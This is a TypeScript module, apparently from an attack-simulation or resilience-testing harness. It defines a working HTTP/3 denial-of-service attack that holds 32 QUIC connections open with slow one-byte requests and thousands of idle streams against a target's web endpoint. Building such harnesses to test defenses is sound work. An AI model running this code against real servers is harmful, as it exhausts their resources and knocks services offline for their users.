import { CertificateEndpoint } from '@grapevine/net/quic';
import type { Attack } from '../attack.js';
import { counting } from '../counted.js';
import { ATTACKER_HOST } from '../raw-peer.js';

/** Connections at once, and streams of each. */
const CONNECTIONS = 32;
const STREAMS = 4_000;
/** A frame of HTTP/3 with header fields that are 4,000 bytes long. */
const REQUEST = Buffer.of(0x01, 0x4f, 0xa0);

/** Connections for browsers that ask for a session one byte a second, with thousands of streams that say nothing. */
export const webConnections: Attack = {
  name: 'web-connections',
  what: 'HTTP/3 connections with slow requests and thousands of streams',
  async run({ target, traffic, signal, pause }) {
    const one = async () => {
      await using endpoint = await CertificateEndpoint.bind({ address: `${ATTACKER_HOST}:0`, datagrams: true });
      while (!signal.aborted) {
        const quic = await endpoint.connect(target.web, 'h3', { signal });
        traffic.strangers = Math.min(CONNECTIONS, traffic.strangers + 1);
        const count = counting(quic, traffic);
        try {
          const { send } = await quic.openBi();
          send.write(REQUEST);
          for (let i = 0; i < STREAMS && !signal.aborted; i++) {
            (await quic.openUni()).write(Buffer.of(0x40));
            if (i % 50 !== 49) continue;
            count();
            await pause(50);
          }
          while (send.write(Buffer.alloc(1)) && !signal.aborted) {
            const isOver = await Promise.race([quic.closed.then(() => true), pause(500)]);
            count();
            if (isOver === true) break;
          }
        } catch {
          // closed by the target: again
        }
        count();
        quic.close(0);
      }
    };
    await Promise.all(Array.from({ length: CONNECTIONS }, one));
  },
};
